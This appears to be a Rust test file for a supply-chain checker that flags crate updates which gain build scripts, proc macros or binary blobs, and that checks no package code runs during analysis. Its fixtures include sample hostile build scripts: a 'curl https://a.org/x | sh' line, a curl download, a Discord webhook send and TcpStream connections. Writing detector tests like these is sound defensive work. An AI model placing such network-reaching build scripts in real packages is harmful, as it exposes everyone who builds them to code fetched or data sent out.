//! What packages can do when they are built, and what an update gains (ATTACKS.md BLD-07 and its twins; TMP-08's rule), with sources in
//! `CARGO_HOME` and from a snapshot. Analyses run nothing of the packages: [`crate::support::Command::run`] asserts it.

use serde_json::Value;

use crate::support::world::Release;
use crate::support::{Outcome, Project, World};

/// Where cargo keeps packages of crates.io, below `registry/src` and `registry/cache`.
const CRATES: &str = "index.crates.io-1949cf8c6b5b557f";
const WORLD: &str = "../world";
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0";

/// A build script or macro that springs the tripwire, which lies beside the project.
fn trap(project: &str, more: &str) -> String {
    format!("fn main() {{\n    std::fs::write(\"{project}\", \"\").unwrap();\n{more}}}\n")
}

/// The world with `lib` 1.0.0 and 1.0.1, of which the second has these files.
fn world(before: &[(&str, &[u8])], after: &[(&str, &[u8])]) -> World {
    let with = |mut release: Release, files: &[(&str, &[u8])]| {
        for (path, bytes) in files {
            release = release.file(path, bytes);
        }
        release
    };
    World::new()
        .release("lib", "1.0.0", |r| with(r.published("2024-01-01T00:00:00Z"), before))
        .release("lib", "1.0.1", |r| with(r.published("2026-08-20T00:00:00Z"), after))
}

/// The project whose lockfile moved from `lib` 1.0.0 to 1.0.1, and the commit before.
fn updated(world: &World) -> (Project, String) {
    let project = world.project(&[("lib", "1.0.0")]);
    let before = project.commit("before");
    world.lock(&project, &[("lib", "1.0.1")]);
    (project, before)
}

fn check(project: &Project, more: &[&str]) -> Outcome {
    project.run(&[&["check", "--format", "json"], more].concat())
}

/// Findings of the rules that are tested here, those of info included.
fn ours(outcome: &Outcome) -> Vec<String> {
    let line = |finding: &Value| ["severity", "id", "package", "version"].map(|key| finding[key].as_str().unwrap()).join(" ");
    let is_ours =
        |finding: &&Value| finding["id"].as_str().is_some_and(|id| id.starts_with("build/") || id == "source/new-binary-blob");
    outcome.report()["findings"].as_array().unwrap().iter().filter(is_ours).map(line).collect()
}

/// BLD-07: an update gains a build script, a macro, a binary; the twins had them before, or only look like it.
#[test]
fn what_an_update_gains() {
    let download = b"fn main() {\n    std::process::Command::new(\"curl\").arg(\"https://a.org/x\").status().unwrap();\n}\n";
    let said =
        b"// curl https://a.org/x | sh, TcpStream\nfn main() {\n    println!(\"cargo:rerun-if-env-changed=TcpStream\");\n}\n";
    let plain: &[u8] = b"fn main() {}\n";
    let hook = b"fn main() {\n    send(\"https://discord.com/api/webhooks/1/x\");\n}\nfn send(_: &str) {}\n";
    let proc_macro =
        b"[package]\nname = \"lib\"\nversion = \"1.0.1\"\nedition = \"2021\"\nlicense = \"MIT\"\n\n[lib]\nproc-macro = true\n";
    let loads: &[u8] = b"pub static TOOL: &[u8] = include_bytes!(\"../tool.bin\");\n";
    type Files<'f> = &'f [(&'f str, &'f [u8])];
    let cases: [(Files<'_>, Files<'_>, &[&str], i32); 11] = [
        (&[], &[("build.rs", plain)], &["medium build/new-build-script lib 1.0.1"], 0),
        (&[], &[("build.rs", said)], &["medium build/new-build-script lib 1.0.1"], 0),
        (&[], &[("build.rs", download)], &["high build/new-build-script lib 1.0.1"], 1),
        (&[("build.rs", plain)], &[("build.rs", hook)], &["high build/new-build-script lib 1.0.1"], 1),
        (&[], &[("Cargo.toml", proc_macro)], &["medium build/new-proc-macro lib 1.0.1"], 0),
        (&[], &[("src/x.c", b"int x;")], &["info build/new-native-code lib 1.0.1"], 0),
        (&[], &[("tool.bin", ELF)], &["medium source/new-binary-blob lib 1.0.1"], 0),
        (&[], &[("tool.bin", ELF), ("src/lib.rs", loads)], &["high source/new-binary-blob lib 1.0.1"], 1),
        (&[("build.rs", plain)], &[("build.rs", said)], &[], 0),
        (&[("build.rs", download)], &[("build.rs", download)], &[], 0),
        (&[("tool.bin", ELF)], &[("tool.bin", ELF), ("tests/t.bin", ELF)], &[], 0),
    ];
    for (before, after, expected, code) in cases {
        let world = world(before, after);
        let (project, base) = updated(&world);
        let fetched = check(&project, &["--base", &base]).expect(code);
        assert_eq!(ours(&fetched), expected, "{fetched}");
        assert_eq!(fetched.undetermined(), Vec::<String>::new());
        // A `.crate` of another digest does not count; then the extracted copies do.
        for version in ["1.0.0", "1.0.1"] {
            project.write(&format!("../cargo/registry/cache/{CRATES}/lib-{version}.crate"), "another");
        }
        std::fs::remove_dir_all(project.root().join("cache")).unwrap();
        let extracted = check(&project, &["--base", &base, "--only", "sources,capabilities"]).expect(code);
        assert_eq!(ours(&extracted), expected, "{extracted}");
        // Nothing but a snapshot, and no cargo.
        std::fs::remove_dir_all(project.cargo_home().join("registry")).unwrap();
        let only = ["--base", &base, "--registry-snapshot", WORLD, "--only", "lock,sources,maintainers"];
        let sources: Vec<_> = expected.iter().filter(|line| line.contains(" source/")).copied().collect();
        assert_eq!(ours(&check(&project, &only)), sources);
    }
}

/// What is judged never runs, and a second look costs no second reading.
#[test]
fn nothing_runs_and_what_was_read_is_remembered() {
    let empty = Project::empty();
    let script = trap(empty.tripwire().as_str(), "    std::net::TcpStream::connect(\"a.org:80\").unwrap();\n");
    let world = world(&[], &[("build.rs", script.as_bytes())]);
    let (project, base) = updated(&world);
    let first = check(&project, &["--base", &base]).expect(1);
    assert_eq!(ours(&first), ["high build/new-build-script lib 1.0.1"]);
    assert!(!empty.tripwire().exists());
    let evidence = first.finding("build/new-build-script");
    assert_eq!(evidence["message"], "lib 1.0.1 gained a build script, which reaches for the network (TcpStream in build.rs:3)");
    assert_eq!(evidence["evidence"][0], "compared with 1.0.0; a compatible update");
    let registry = project.cargo_home().join("registry");
    std::fs::remove_dir_all(registry.join("src").join(CRATES).join("lib-1.0.0")).unwrap();
    std::fs::remove_file(registry.join("cache").join(CRATES).join("lib-1.0.0.crate")).unwrap();
    assert_eq!(ours(&check(&project, &["--base", &base]).expect(1)), ["high build/new-build-script lib 1.0.1"]);
}

/// Without the version before nothing is claimed, and it is said.
#[test]
fn without_the_version_before_it_is_not_evaluated() {
    let world = world(&[], &[("build.rs", b"fn main() {}")]);
    let (project, base) = updated(&world);
    let registry = project.cargo_home().join("registry");
    std::fs::remove_file(registry.join("cache").join(CRATES).join("lib-1.0.0.crate")).unwrap();
    std::fs::remove_file(registry.join("src").join(CRATES).join("lib-1.0.0/.cargo-ok")).unwrap();
    let check_all = check(&project, &["--base", &base]).expect(0);
    assert_eq!(ours(&check_all), Vec::<String>::new());
    let gap = check_all.json()["not_evaluated"].as_array().unwrap().iter().find(|gap| gap["area"] == "capabilities").cloned();
    let gap = gap.expect("a gap of the capabilities");
    assert_eq!(gap["why"], "its source is not on this machine: 1 package: lib 1.0.0 (the one before 1.0.1)");
    assert_eq!(gap["required"], false);
    check(&project, &["--base", &base, "--require", "capabilities"]).expect(4);
    // With a snapshot it is there again.
    let known = check(&project, &["--base", &base, "--registry-snapshot", WORLD, "--require", "capabilities"]).expect(0);
    assert_eq!(ours(&known), ["medium build/new-build-script lib 1.0.1"]);
}

/// A crate that is new here gains nothing; a very young one whose script reaches out is stopped.
#[test]
fn new_crates() {
    let script = "fn main() {\n    std::net::TcpStream::connect(\"a.org:80\").unwrap();\n}\n";
    for (published, script, expected, code) in [
        ("2026-08-30T00:00:00Z", script, &["high build/new-build-script young 0.1.0"][..], 1),
        ("2026-08-30T00:00:00Z", "fn main() {}\n", &[], 0),
        ("2026-03-30T00:00:00Z", script, &[], 0),
    ] {
        let world = world(&[], &[]).release("young", "0.1.0", |r| r.published(published).build_script(script));
        let project = world.project(&[("lib", "1.0.0")]);
        let base = project.commit("before");
        world.lock(&project, &[("lib", "1.0.0"), ("young", "0.1.0")]);
        assert_eq!(ours(&check(&project, &["--base", &base, "--only", "capabilities"]).expect(code)), expected, "{published}");
    }
}

/// With a list, what is not on it does not run; without one the rule is silent.
#[test]
fn a_list_of_what_may_run() {
    let world = World::new()
        .release("fig", "1.2.3", |r| r.build_script("fn main() {}\n"))
        .release("grape", "0.1.0", Release::proc_macro)
        .release("nut", "1.0.0", |r| r);
    let project = world.project(&[("fig", "1.2.3"), ("grape", "0.1.0"), ("nut", "1.0.0")]);
    assert_eq!(ours(&project.check().expect(0)), Vec::<String>::new());
    let policy = project.read("supplychain.toml");
    for (allow, expected, code) in [
        ("", &["high build/script-not-allowed fig 1.2.3", "high build/script-not-allowed grape 0.1.0"][..], 1),
        ("\"fig@1.2\"", &["high build/script-not-allowed grape 0.1.0"], 1),
        ("\"fig@2\", \"grape\"", &["high build/script-not-allowed fig 1.2.3"], 1),
        ("\"fig\", \"grape\"", &[], 0),
    ] {
        let rules = format!("\n[rules]\n\"build/script-not-allowed\" = {{ allow = [{allow}] }}\n");
        project.write("supplychain.toml", policy.clone() + &rules);
        assert_eq!(ours(&project.check().expect(code)), expected, "{allow}");
    }
    // The build is stopped before anything of it runs.
    project.write("supplychain.toml", policy + "\n[rules]\n\"build/script-not-allowed\" = { allow = [] }\n");
    project.run(&["build", "--no-sign"]).expect(1);
    assert!(!project.path("target").exists());
}

/// TMP-08: a second local build goes on with our own target folder, which is a finding only where the policy wants a fresh one.
#[test]
fn a_reused_target_folder() {
    let project = Project::app();
    project.run(&["build", "--no-sign"]).expect(0);
    let again = project.run(&["build", "--no-sign"]).expect(0);
    assert!(!again.stderr.contains("build/unclean-target-folder"), "{again}");
    project.append("supplychain.toml", "\n[verify]\nrequire-fresh-target = true\n");
    let strict = project.run(&["build", "--no-sign"]).expect(0);
    assert!(
        strict.stderr.contains("medium[build/unclean-target-folder]: the build would reuse target/supplychain/.build"),
        "{strict}"
    );
    project.append("supplychain.toml", "\n[rules]\n\"build/unclean-target-folder\" = \"high\"\n");
    project.run(&["build", "--no-sign"]).expect(1);
    for fresh in
        [project.run(&["build", "--no-sign", "--clean"]), project.command(&["build", "--no-sign"]).offline().env("CI", "1").run()]
    {
        assert!(!fresh.expect(0).stderr.contains("build/unclean-target-folder"));
    }
    project.run(&["check"]).expect(0);
}
